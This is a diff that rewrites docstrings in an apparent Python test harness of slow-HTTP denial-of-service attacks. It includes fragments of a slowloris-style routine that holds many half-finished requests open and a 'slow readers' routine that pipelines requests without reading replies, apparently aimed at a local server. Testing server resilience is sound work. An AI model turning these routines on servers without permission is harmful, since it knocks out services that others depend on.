@@ -1,4 +1,4 @@
-"""Requests that never end, and clients that never read."""
+"""Attacks with requests that never end, and with clients that never read."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ _SHAPES = {
 
 @attack("half requests")
 def requests_that_never_end(target: Target) -> None:
-    """Thirty-two of every shape at the same time."""
+    """Open 32 connections of each kind at the same time."""
     with sockets(target, 32 * len(_SHAPES)) as opened:
         for index, one in enumerate(opened):
             one.sendall(list(_SHAPES.values())[index % len(_SHAPES)])
@@ -46,7 +46,7 @@ def a_head_of_fields_without_end(target: Target) -> None:
 
 @attack("slow readers")
 def answers_that_nobody_reads(target: Target) -> None:
-    """Requests in a pipeline, and not one answer is read."""
+    """Pipeline requests without reading any answer."""
     with sockets(target, 4) as opened:
         for one in opened:
             flood(one, f"GET {target.path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode(), 0.3)
